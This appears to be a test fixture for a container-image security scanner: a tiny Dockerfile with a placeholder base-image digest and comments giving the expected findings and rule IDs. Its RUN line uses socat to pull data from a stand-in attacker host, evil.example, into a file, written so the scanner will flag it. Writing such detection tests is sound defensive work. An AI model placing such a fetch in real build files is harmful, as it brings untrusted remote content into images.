FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN socat TCP:evil.example:80 - > /x
USER app
# expect: download 2 high "socat opens a network connection"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR303-2e1a3ccb26 VR501-e064bac1a6
